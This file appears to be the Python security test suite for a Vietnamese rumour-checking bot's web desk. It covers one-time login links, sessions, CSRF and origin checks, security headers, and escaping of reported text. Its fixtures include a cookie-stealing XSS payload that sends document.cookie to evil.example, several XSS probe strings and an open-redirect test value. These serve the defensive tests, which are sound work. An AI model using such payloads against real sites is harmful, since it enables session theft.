"""The web desk's security rules over plain HTTP: who gets a link, what a link and a session are worth,
CSRF on every POST, the headers, and report texts shown as text. Each refusal changes nothing and is
in the audit where the chat desk would record it."""

from __future__ import annotations

import datetime as dt
import re
from dataclasses import replace

import pytest
from aiohttp.test_utils import TestClient, TestServer

from bot.config import Config, WebConfig
from bot.core import Core
from bot.desk.logins import LINK_MINUTES, LINKS_PER_HOUR
from bot.desk.rights import Actor
from bot.store.values import utcnow
from handlers.web.app import web_app
from handlers.web.security import CONTENT_SECURITY_POLICY
from tests.handlers.web.conftest import HOSTILE, HUNG, LAN, MINH, THU, WebDesk, officer

GAO = "Nghe nói tuần sau phường Minh An phát gạo miễn phí cho mỗi hộ 10 ký, ai biết thật không?"
OTHER_HOSTILE = ('Tri ân khách hàng <script>document.location="https://evil.example/?c="+document.cookie</script> '
                 'nhận quà <a href="javascript:void(0)">tại đây</a> hạn chót hôm nay')
MEMBER = {"id": 8001, "first_name": "Bình"}
PAGES = ("/queue", "/reports/1", "/reports/1/new", "/entries", "/entries/vneid-link-cai-dat-gia",
         "/entries/vneid-link-cai-dat-gia/edit", "/entries/new", "/figures", "/audit", "/exports",
         "/exports/catalogue.yaml", "/exports/reports.csv")


async def test_a_members_web_is_refused_and_audited(desk: WebDesk) -> None:
    assert desk.core.officers is not None
    reply = await desk.core.officers.run_command(officer(MEMBER), "/web")
    assert reply is not None and "chỉ dành cho cán bộ" in reply.plain
    assert "/login/" not in reply.plain
    assert desk.refusals() == [("8001", "/web")]
    assert desk.rows("SELECT * FROM web_logins") == []


async def test_the_link_is_given_in_private_only_and_a_few_an_hour(desk: WebDesk) -> None:
    assert desk.core.officers is not None
    in_group = await desk.core.officers.run_command(Actor("telegram", str(THU["id"]), "-100200"), "/trang")
    assert in_group is not None and "tin nhắn riêng" in in_group.plain and "/login/" not in in_group.plain
    for _ in range(LINKS_PER_HOUR):
        await desk.link_for()
    too_many = await desk.core.officers.run_command(officer(THU), "/web")
    assert too_many is not None and "/login/" not in too_many.plain
    assert len(desk.rows("SELECT * FROM web_logins")) == LINKS_PER_HOUR
    # kept as hashes: no row holds a link's token
    tokens = [(await desk.link_for(HUNG)).rsplit("/", 1)[1]]
    stored = " ".join(str(tuple(row)) for row in desk.rows("SELECT * FROM web_logins"))
    assert tokens[0] not in stored


async def test_a_zalo_officer_gets_the_same_desk(web_config: Config) -> None:
    zalo_officer = "0f1e2d3c4b5a69788796"
    config = replace(web_config, zalo=replace(web_config.zalo, officers=(zalo_officer,)))
    core = await Core.open(config)
    try:
        async with TestClient(TestServer(web_app(core))) as client:
            assert core.officers is not None
            reply = await core.officers.run_command(Actor("zalo", zalo_officer, zalo_officer), "/web")
            assert reply is not None
            token = re.findall(r"/login/([\w-]+)", reply.plain)[0]
            assert (await client.post("/login", data={"token": token}, allow_redirects=False)).status == 303
            page = await client.get("/queue")
            assert page.status == 200 and f"zalo · người dùng {zalo_officer}" in await page.text()
    finally:
        await core.close()


async def test_every_page_needs_a_session(desk: WebDesk) -> None:
    await desk.report(GAO)
    for path in PAGES:
        answer = await desk.client.get(path, allow_redirects=False)
        assert answer.status == 401, path
        text = await answer.text()
        assert "/web" in text and GAO not in text and "LỪA ĐẢO" not in text and "csrf" not in text, path


async def test_a_post_without_a_session_changes_nothing_and_is_audited(desk: WebDesk) -> None:
    await desk.report(GAO)
    answer = await desk.client.post("/reports/1/dismiss", data={"csrf": "0" * 64})
    assert answer.status == 401
    assert desk.rows("SELECT * FROM report_reviews") == []
    assert desk.refusals() == [("anonymous", "POST /reports/1/dismiss (no session)")]


async def test_a_link_works_once(desk: WebDesk) -> None:
    path = await desk.link_for()
    token = path.rsplit("/", 1)[1]
    assert (await desk.client.get(path)).status == 200
    assert (await desk.client.get(path)).status == 200  # looking at it (a link preview) does not use it
    assert (await desk.client.post("/login", data={"token": token}, allow_redirects=False)).status == 303
    assert (await desk.client.get("/queue")).status == 200
    [login] = desk.audit("web_login")
    assert (login["platform"], login["user_id"], login["chat_id"]) == ("telegram", str(THU["id"]), "web")
    async with TestClient(TestServer(web_app(desk.core))) as other:  # another browser with the same link
        assert (await other.get(path)).status == 410
        again = await other.post("/login", data={"token": token}, allow_redirects=False)
        assert again.status == 403 and "đã được dùng" in await again.text()
        assert (await other.get("/queue")).status == 401
    assert desk.refusals() == [(str(THU["id"]), "web login (used)")]
    assert len(desk.rows("SELECT * FROM web_sessions")) == 1


async def test_an_expired_link_opens_nothing_and_is_audited(desk: WebDesk) -> None:
    assert desk.core.officers is not None
    path = await desk.link_for()
    logins = desk.core.officers.logins
    logins.now = lambda: utcnow() + dt.timedelta(minutes=LINK_MINUTES, seconds=1)
    assert (await desk.client.get(path)).status == 410
    answer = await desk.client.post("/login", data={"token": path.rsplit("/", 1)[1]}, allow_redirects=False)
    assert answer.status == 403 and "hết hạn" in await answer.text()
    assert desk.rows("SELECT * FROM web_sessions") == []
    assert desk.refusals() == [(str(THU["id"]), "web login (expired)")]


async def test_an_unknown_link_opens_nothing(desk: WebDesk) -> None:
    assert (await desk.client.get("/login/" + "A" * 43)).status == 404
    answer = await desk.client.post("/login", data={"token": "A" * 43}, allow_redirects=False)
    assert answer.status == 403
    assert desk.rows("SELECT * FROM web_sessions") == []


async def test_guessing_links_meets_a_limit(desk: WebDesk) -> None:
    statuses = [(await desk.client.get(f"/login/guess{n}")).status for n in range(12)]
    assert statuses[:10] == [404] * 10 and statuses[10:] == [429, 429]


async def test_a_post_without_or_with_a_wrong_csrf_token_changes_nothing(desk: WebDesk) -> None:
    await desk.report(GAO)
    await desk.login()
    for data in ({}, {"csrf": "0" * 64}, {"csrf": ""}):
        answer = await desk.client.post("/reports/1/dismiss", data=data)
        assert answer.status == 403 and "mã bảo vệ" in await answer.text()
    answer = await desk.client.post("/entries/vneid-link-cai-dat-gia/retire", data={"csrf": "f" * 64})
    assert answer.status == 403
    assert desk.rows("SELECT * FROM report_reviews") == [] and desk.rows("SELECT * FROM entries") == []
    assert desk.refusals() == [
        (str(THU["id"]), "POST /reports/1/dismiss (CSRF token missing)"),
        (str(THU["id"]), "POST /reports/1/dismiss (CSRF token wrong)"),
        (str(THU["id"]), "POST /reports/1/dismiss (CSRF token missing)"),
        (str(THU["id"]), "POST /entries/vneid-link-cai-dat-gia/retire (CSRF token wrong)"),
    ]
    # with the page's token the same POST works, through the chat desk's use case and its audit
    answer = await desk.client.post("/reports/1/dismiss", data={"csrf": await desk.csrf()})
    assert answer.status == 200 and "Đã bỏ qua 1 báo cáo" in await answer.text()
    [dismissed] = desk.audit("dismiss")
    assert (dismissed["user_id"], dismissed["chat_id"], dismissed["report_id"]) == (str(THU["id"]), "web", 1)


async def test_a_post_from_another_origin_is_refused(desk: WebDesk) -> None:
    await desk.report(GAO)
    await desk.login()
    csrf = await desk.csrf()
    answer = await desk.client.post("/reports/1/dismiss", data={"csrf": csrf},
                                    headers={"Origin": "https://evil.example"})
    assert answer.status == 403
    assert desk.rows("SELECT * FROM report_reviews") == []
    assert desk.refusals() == [(str(THU["id"]), "POST /reports/1/dismiss (another origin)")]


async def test_a_revoked_officers_live_session_ends(desk: WebDesk) -> None:
    await desk.report(GAO)
    await desk.login(THU)
    assert (await desk.client.get("/queue")).status == 200
    csrf = await desk.csrf()
    assert desk.core.officers is not None
    await desk.core.officers.run_command(officer(HUNG), f"/thuhoi {THU['id']}")
    answer = await desk.client.post("/reports/1/dismiss", data={"csrf": csrf})
    assert answer.status == 401
    assert desk.rows("SELECT * FROM report_reviews") == []
    assert (await desk.client.get("/queue")).status == 401  # the session is gone, not only refused
    [ended] = desk.rows("SELECT ended_at FROM web_sessions")
    assert ended["ended_at"] is not None
    assert (str(THU["id"]), "web session (rights revoked)") in desk.refusals()
    # granted again, the old cookie still opens nothing: a new link is needed
    await desk.core.officers.run_command(officer(HUNG), f"/capquyen {THU['id']}")
    assert (await desk.client.get("/queue")).status == 401


async def test_logout_ends_the_session(desk: WebDesk) -> None:
    await desk.login()
    answer = await desk.client.post("/logout", data={"csrf": await desk.csrf()})
    assert answer.status == 200
    assert (await desk.client.get("/queue")).status == 401
    assert [row["action"] for row in desk.audit()] == ["web_login", "web_logout"]


async def test_headers_and_the_session_cookie(desk: WebDesk) -> None:
    path = await desk.link_for()
    answer = await desk.client.post("/login", data={"token": path.rsplit("/", 1)[1]}, allow_redirects=False)
    cookie = answer.headers["Set-Cookie"]
    assert cookie.startswith("kiemchung_session=")
    assert "HttpOnly" in cookie and "SameSite=Strict" in cookie and "Path=/" in cookie
    assert "Secure" not in cookie  # plain http (a desk on 127.0.0.1): a Secure cookie would never come back
    for target in ("/queue", "/figures", "/nope", "/login/unknown"):
        page = await desk.client.get(target)
        assert page.headers["Content-Security-Policy"] == CONTENT_SECURITY_POLICY, target
        assert "script-src" not in CONTENT_SECURITY_POLICY and "default-src 'none'" in CONTENT_SECURITY_POLICY
        assert page.headers["X-Frame-Options"] == "DENY"
        assert page.headers["X-Content-Type-Options"] == "nosniff"
        assert page.headers["Referrer-Policy"] == "same-origin"
        assert page.headers["Cache-Control"] == "no-store"
        assert "<script" not in await page.text()


async def test_behind_https_the_cookie_is_secure(config: Config) -> None:
    secure = replace(config, officers=(THU["id"],), web=WebConfig(("127.0.0.1", 0), "https://desk.example.vn"))
    core = await Core.open(secure)
    try:
        async with TestClient(TestServer(web_app(core))) as client:
            desk = WebDesk(core, client, secure)
            assert core.officers is not None
            reply = await core.officers.run_command(officer(THU), "/web")
            assert reply is not None
            token = re.findall(r"https://desk\.example\.vn/login/([\w-]+)", reply.plain)[0]
            answer = await desk.client.post("/login", data={"token": token}, allow_redirects=False)
            cookie = answer.headers["Set-Cookie"]
            assert cookie.startswith("__Host-kiemchung=") and "Secure" in cookie and "HttpOnly" in cookie
            assert answer.headers["Strict-Transport-Security"].startswith("max-age=")
    finally:
        await core.close()


def no_markup(html: str) -> None:
    """The hostile report appears only as text: no tag, no attribute, no javascript: link of its own."""
    assert "<script>alert" not in html and "<img src=x" not in html and "onerror=alert(1)>" not in html
    assert 'href="javascript:' not in html and "href='javascript:" not in html
    assert "&lt;script&gt;" in html


async def test_a_hostile_report_is_text_on_every_page(desk: WebDesk) -> None:
    await desk.report(HOSTILE)
    await desk.report(OTHER_HOSTILE, MINH)
    await desk.login()
    for path in ("/queue", "/reports/1", "/reports/1?q=%3Cscript%3E", "/reports/1/new", "/reports/2"):
        no_markup(await (await desk.client.get(path)).text())
    # dismissed, its text is in the audit log
    await desk.client.post("/reports/2/dismiss", data={"csrf": await desk.csrf()})
    no_markup(await (await desk.client.get("/audit")).text())
    # linked to an entry, its wording is a variant shown on the entry's page and in its form
    await desk.client.post("/reports/1/link", data={"csrf": await desk.csrf(), "entry": "vneid-link-cai-dat-gia"})
    no_markup(await (await desk.client.get("/entries/vneid-link-cai-dat-gia")).text())
    no_markup(await (await desk.client.get("/entries/vneid-link-cai-dat-gia/edit")).text())
    search = await (await desk.client.get("/entries?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E")).text()
    assert "<script>alert(1)" not in search


@pytest.mark.parametrize("language", ["vi", "en"])
async def test_pages_in_both_languages(desk: WebDesk, language: str) -> None:
    await desk.report(GAO)
    await desk.login()
    switched = await desk.client.get(f"/lang/{language}?next=/entries", allow_redirects=False)
    assert switched.status == 303 and switched.headers["Location"] == "/entries"
    page = await (await desk.client.get("/queue")).text()
    assert f'<html lang="{language}">' in page
    assert ("Báo cáo chờ xử lý" in page) == (language == "vi") and ("Pending reports" in page) == (language == "en")
    off_site = await desk.client.get("/lang/en?next=//evil.example/", allow_redirects=False)
    assert off_site.headers["Location"] == "/queue"


async def test_asked_by_a_second_person_the_counts_are_those_of_the_chat(desk: WebDesk) -> None:
    await desk.report(GAO, LAN)
    await desk.report(GAO + " 😱", MINH)
    await desk.login()
    page = await (await desk.client.get("/queue")).text()
    assert page.count("data-report-id=") == 1 and "2 người hỏi" in page and "1 nhóm tin, 2 báo cáo" in page
